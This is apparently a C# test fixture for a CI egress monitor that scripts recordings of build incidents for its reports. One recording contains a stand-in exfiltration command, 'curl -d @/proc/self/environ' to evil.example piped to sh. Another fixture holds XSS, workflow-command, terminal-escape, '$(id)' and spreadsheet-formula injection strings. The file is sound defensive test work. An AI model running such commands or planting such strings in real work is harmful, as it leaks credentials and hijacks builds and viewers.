using System.Globalization;
using Sallyport.Protocol.Recording;

namespace Sallyport.Reporting.Tests;

/// <summary>The recordings of corpus/, each made by a script.</summary>
internal static class Incidents
{
    private const RecordedVerdict Allowed = RecordedVerdict.Allowed;
    private const RecordedVerdict Observed = RecordedVerdict.Observed;
    private const RecordedVerdict Refused = RecordedVerdict.Refused;

    public static IReadOnlyDictionary<string, Func<byte[]>> All { get; } = new Dictionary<string, Func<byte[]>>
    {
        ["refused-canary"] = () => RefusedCanary().Record(),
        ["audit-many"] = () => AuditMany().Record(200, 600),
        ["name-mismatch"] = () => NameMismatch().Record(),
        ["losses-truncated"] = () => RefusedCanary(lossy: true).Record(24, 60)[..^90],
        ["tampered"] = Tampered,
        ["hostile-text"] = () => HostileText().Record(),
        ["runner-steps"] = () => RunnerJob.Script().Record(40),
        ["changed-files"] = () => FileJob.Script().Record(60),
    };

    /// <summary>A build whose dependency tries to send something out, in block mode.</summary>
    public static ScriptedJob RefusedCanary(bool lossy = false, string canary = "evil.example")
    {
        var job = new ScriptedJob();
        job.Begin("block", ["npm", "ci"], ("packages.example.com:443", ".sallyport.yml:4"), ("github.com:443", ".sallyport.yml:5"));
        var npm = job.Run(null, "/usr/bin/node", "npm", "ci");
        job.Wait(400);
        job.Ask(npm, "packages.example.com", ["198.51.100.10"], Allowed, 0);
        for (var i = 0; i < 12; i++)
        {
            var download = job.Connect(npm, "packages.example.com", "198.51.100.10", 443, Allowed, 0);
            job.Say(npm, download, "packages.example.com", "packages.example.com", "198.51.100.10", Allowed, 0);
            job.Wait(350);
            job.Close(download, 2_100, 401_000 + (i * 1_000));
        }

        var git = job.Run(npm, "/usr/bin/git", "git", "clone", "https://***@github.com/example/left-pad.git");
        job.Ask(git, "github.com", ["198.51.100.20", "198.51.100.21"], Allowed, 1);
        var clone = job.Connect(git, "github.com", "198.51.100.20", 443, Allowed, 1);
        job.Say(git, clone, "github.com", "github.com", "198.51.100.20", Allowed, 1);
        job.Wait(900);
        job.Close(clone, 5_000, 212_000);
        job.Exit(git);
        var install = job.Run(npm, "/usr/bin/node", "node", "install.js");
        job.Wait(200);
        var shell = job.Run(install, "/usr/bin/dash", "sh", "-c", $"curl -s -d @/proc/self/environ https://{canary}/c | sh");
        var curl = job.Run(shell, "/usr/bin/curl", "curl", "-s", "-d", "@/proc/self/environ", $"https://{canary}/c");
        if (lossy)
        {
            job.Add(new EventsLost("event-ring", 1_204));
            job.Add(new EventsLost("argv-unread", 3));
        }

        job.Ask(curl, canary, [], Refused);
        job.Wait(5);
        job.Connect(curl, null, "198.51.100.66", 443, Refused, null, "no-rule", "tcp", 3);
        job.Exit(curl, 6);
        job.Exit(shell, 6);
        job.Exit(install, 1);
        job.Wait(30);
        job.Exit(npm, 1);
        job.End(1);
        return job;
    }

    /// <summary>No policy: a build in audit mode that speaks to a hundred places from three steps.</summary>
    public static ScriptedJob AuditMany()
    {
        var job = new ScriptedJob();
        job.Begin("audit", ["make", "all", "-j8"]);
        var make = job.Run(null, "/usr/bin/make", "make", "all", "-j8");
        string[] steps = ["Restore packages", "Build and test", "Publish"];
        for (var s = 0; s < steps.Length; s++)
        {
            job.BeginStep($"step-{s + 1}", steps[s], s + 1);
            var shell = job.Run(make, "/usr/bin/bash", "bash", "-e", $"/home/runner/_temp/{s}.sh");
            for (var i = 0; i < 40; i++)
            {
                var name = string.Create(CultureInfo.InvariantCulture, $"mirror{i % 35}.zone{s}.example.com");
                var address = string.Create(CultureInfo.InvariantCulture, $"198.51.100.{100 + i}");
                var tool = job.Run(shell, i % 3 == 0 ? "/usr/bin/wget" : "/usr/bin/curl", i % 3 == 0 ? "wget" : "curl", $"https://{name}/{i}");
                job.Ask(tool, name, [address], Observed);
                var flow = job.Connect(tool, name, address, 443, Observed);
                job.Say(tool, flow, name, name, address, Observed, null);
                job.Wait(120 + (i * 3));
                job.Close(flow, 900, 20_000L * (i + 1));
                job.Exit(tool);
            }

            job.Connect(shell, null, "2001:db8::53", 123, Observed, null, "no-rule", "udp");
            job.Connect(shell, null, "127.0.0.1", 5432, Allowed, null, "loopback");
            job.Exit(shell);
            job.EndStep("success");
        }

        job.Exit(make);
        job.End(0);
        return job;
    }

    /// <summary>A container connects to a shared address under another name than the one it asked for.</summary>
    public static ScriptedJob NameMismatch()
    {
        var id = string.Concat(Enumerable.Repeat("4c3e9a1d", 8));
        var job = new ScriptedJob();
        job.Begin("block", ["./integration-test"], ("cdn.example.com:443", ".sallyport.yml:4"), ("*.evil.example", ".sallyport.yml:9"));
        var test = job.Run(null, "/home/runner/shop/integration-test", "./integration-test");
        job.BeginStep("integration", "Integration tests", 4);
        var docker = job.Run(test, "/usr/bin/docker", "docker", "run", "--rm", "-e", "TOKEN=***", "shop/tests:latest");
        job.Wait(700);
        job.Add(new ContainerStarted(id, "vigorous_noether", "shop/tests:latest", "integration", true));
        job.Container = id;
        var python = job.Run(docker, "/usr/bin/python3.11", "python3", "-m", "pytest", "tests/");
        job.Ask(python, "cdn.example.com", ["198.51.100.40"], Allowed, 0);
        var good = job.Connect(python, "cdn.example.com", "198.51.100.40", 443, Allowed, 0);
        job.Say(python, good, "cdn.example.com", "cdn.example.com", "198.51.100.40", Allowed, 0);
        job.Wait(300);
        job.Close(good, 1_200, 88_000);
        var bad = job.Connect(python, "cdn.example.com", "198.51.100.40", 443, Allowed, 0);
        job.Wait(2);
        job.Say(python, bad, "collect.evil.example", "cdn.example.com", "198.51.100.40", Refused, null);
        job.Close(bad, 0, 0);
        job.Ask(python, "c2.evil.example", [], Refused, 1, "denied");
        job.Connect(python, null, "2001:db8::66", 0, Refused, null, "protocol", "icmp", 4);
        job.Container = null;
        job.Find("packet-rewritten", "A NAT rule was added while the job ran.", "high", docker, ("table", "nat"), ("chain", "PREROUTING"));
        job.Exit(python, 1);
        job.EndStep("failure");
        job.Exit(docker, 1);
        job.Exit(test, 1);
        job.End(1);
        return job;
    }

    /// <summary>Everything that the job can name carries something that could break a format.</summary>
    public static ScriptedJob HostileText()
    {
        var job = new ScriptedJob();
        job.Begin("block", ["::set-output name=x::y", "\e[2J\e[H", "$(id)"], ("good.example:443", "::error file=a::b"));
        job.BeginStep("</script><script>alert(1)</script>", "| a | b |\n# heading `x` <b>@admin</b> ##[error]boo", 1);
        var shell = job.Run(null, "/tmp/.x/\u202egnp.exe", "::warning::x", "\e]0;owned\a\e[31m", "a\rb\nc\td", "\u200b\u2066hidden\u2069");
        var script = job.Run(
            shell, "/memfd:</script><img src=x onerror=alert(1)>", "]]>", "<!--", "\"'><svg onload=alert(1)>", "www.evil.example",
            "https://evil.example/[x](javascript:1)", "@someone", "```", "--> --!>", "e\u0301\u0301\u0301\u0301\u0301", "\ud800", "名前", "😀");
        job.Ask(script, "\\000\\027[31m.evil.example", [], Refused);
        job.Connect(script, "<b>x</b>|`.example", "198.51.100.66", 443, Refused);
        var flow = job.Connect(script, "good.example", "198.51.100.40", 443, Allowed, 0);
        job.Say(script, flow, "\"><script>alert(1)</script>\u202e", "good.example", "198.51.100.40", Refused, null);
        job.Connect(script, "::error::stop", "198.51.100.67", 443, Refused);
        job.Find(
            "file-downloaded-executed", "::error::a file was <i>downloaded</i> | and `executed`", "critical", script,
            ("path", "/tmp/\e[1A\e[2K</details>\n::stop-commands::x"), ("=cmd|' /C calc'!A0", "+1"));
        job.EndStep("failure");
        job.Exit(script, 137);
        job.End(137);
        return job;
    }

    /// <summary>The second of three frames comes from another run, as somebody would do who hides a refusal.</summary>
    private static byte[] Tampered()
    {
        var ours = Frames(RefusedCanary().Record(24, 56));
        var theirs = Frames(RefusedCanary(canary: "good.example").Record(24, 56));
        return [.. ours[0], .. theirs[1], .. ours[2]];
    }

    private static List<byte[]> Frames(byte[] recording)
    {
        // RFC 8878 section 3.1.1: every frame begins with this number; it does not occur inside these ones.
        ReadOnlySpan<byte> magic = [0x28, 0xb5, 0x2f, 0xfd];
        var frames = new List<byte[]>();
        var rest = recording.AsSpan();
        while (rest.Length > 0)
        {
            var next = rest[4..].IndexOf(magic);
            var length = next < 0 ? rest.Length : next + 4;
            frames.Add(rest[..length].ToArray());
            rest = rest[length..];
        }

        return frames;
    }
}
